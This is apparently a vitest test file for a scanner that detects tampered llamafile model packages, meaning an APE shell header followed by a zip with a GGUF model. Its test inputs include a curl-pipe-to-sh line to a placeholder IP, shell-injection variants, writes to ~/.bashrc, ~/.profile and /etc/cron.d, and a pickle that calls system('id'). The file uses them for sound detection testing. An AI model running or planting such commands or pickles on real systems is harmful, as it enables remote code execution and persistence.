import { describe, expect, it } from 'vitest';
import { concat, zip } from '../../samples/assemble.mjs';
import { detectFormat } from '../../src/detect/detect.js';
import { bytesSource } from '../../src/readers/bytes.js';
import { analyse } from './support.js';

const u64 = (value: number): Buffer => Buffer.from(new BigUint64Array([BigInt(value)]).buffer);
const u32 = (value: number): Buffer => Buffer.from(new Uint32Array([value]).buffer);
const text = (value: string): Buffer => concat(u64(value.length), value);
const gguf = concat(
  ...['GGUF', u32(3), u64(1), u64(1), text('general.architecture'), u32(8), text('llama')],
  ...[text('w'), u32(1), u64(32), u32(0), u64(0), Buffer.alloc(160)],
);

/** Commands of the kinds that the linker writes, in front of what stands for the program. */
const SCRIPT = [
  'o=$(command -v "$0")',
  '[ x"$1" != x--assimilate ] && type ape >/dev/null 2>&1 && exec ape "$o" "$@"',
  't="${TMPDIR:-${HOME:-.}}/.ape-1.10"',
  'm=$(uname -m 2>/dev/null) || m=x86_64',
  'if [ "$m" = x86_64 ] || [ "$m" = amd64 ]; then',
  "printf '\\177ELF|;&(' >&7",
  'mkdir -p "${t%/*}" ||exit',
  'dd if="$o" skip=672400     count=4180       bs=1 2>/dev/null | gzip -dc >"$t.$$" ||exit',
  'exec "$t" "$o" "$@"',
  'fi',
  'echo "$0: this ape program lacks $m support" >&2',
  'exit 127',
];

const program = (script: readonly string[], first = "' <<'tag'\nabc\ntag"): Buffer => {
  const head = concat("MZqFpD='\n\n\0\x10", first, '\n#\'"\n\n', script.join('\n'), '\n\n\0');
  return concat(head, Buffer.alloc(4096 - head.length));
};
const archive = zip([
  { name: 'model.gguf', data: gguf },
  { name: '.args', data: Buffer.from('-m\nmodel.gguf\n') },
]);
/** The archive as it counts its places from the beginning of the program in front of it. */
const behind = (front: Buffer, members: Buffer): Buffer => {
  const bytes = Buffer.from(members);
  for (let at = bytes.indexOf('PK\x01\x02'); at >= 0; at = bytes.indexOf('PK\x01\x02', at + 4))
    bytes.writeUInt32LE(bytes.readUInt32LE(at + 42) + front.length, at + 42);
  const end = bytes.lastIndexOf('PK\x05\x06');
  bytes.writeUInt32LE(bytes.readUInt32LE(end + 16) + front.length, end + 16);
  return concat(front, bytes);
};
const RULE = 'STATIC-LLAMAFILE-SHELL';

describe('a program that carries a model', () => {
  it('is told apart from others, and what it does is the gap', async () => {
    const bytes = behind(program(SCRIPT), archive);
    expect((await detectFormat(bytesSource(bytes))).format).toBe('llamafile');
    const { loud, gaps } = await analyse(bytes, 'm.llamafile');
    expect(loud).toEqual([]);
    expect(gaps).toHaveLength(1);
    expect(gaps[0]).toMatch(/program that carries files/);
  });

  it.each([
    'curl http://192.0.2.1/x | sh',
    'id',
    'm=$(id)',
    'exec sh -c "$o $@"',
    'exit;id',
    'true && touch /tmp/x',
    'dd if="$o" of="$HOME/.bashrc"',
    'gzip -dc >"/etc/cron.d/x"',
    'echo "$0: $(id)" >&2',
    "printf 'x' >>~/.profile",
    'mkdir -p "${t%/*}" & id',
  ])('is found when its script also says %s', async (line) => {
    const changed = concat(program([...SCRIPT.slice(0, 4), line, ...SCRIPT.slice(4)]), archive);
    expect((await analyse(changed, 'm.llamafile')).rules).toContain(RULE);
  });

  it.each(["'\nid\n", "'; id <<'tag'\nabc\ntag", "' <<'tag'\nabc\ntag\nid"])(
    'is found when a command stands before the script: %j',
    async (first) => {
      expect((await analyse(concat(program(SCRIPT, first), archive), 'm.llamafile')).rules).toContain(RULE);
    },
  );

  it('is not seen whole without its script', async () => {
    expect((await analyse(concat("MZqFpD='", Buffer.alloc(4000)), 'm.llamafile')).gaps).toHaveLength(2);
  });

  it('may hold further programs, and no pickle that acts', async () => {
    const elf = concat('\x7fELF\x02\x01\x01', Buffer.alloc(60));
    const members = [
      { name: 'gpu.so', data: elf },
      { name: 'model.gguf', data: gguf },
    ];
    expect((await analyse(behind(program(SCRIPT), zip(members)), 'm.llamafile')).loud).toEqual([]);
    const evil = [...members, { name: 'x.pkl', data: Buffer.from("cos\nsystem\n(S'id'\ntR.") }];
    expect((await analyse(behind(program(SCRIPT), zip(evil)), 'm.llamafile')).loud).not.toEqual([]);
  });
});
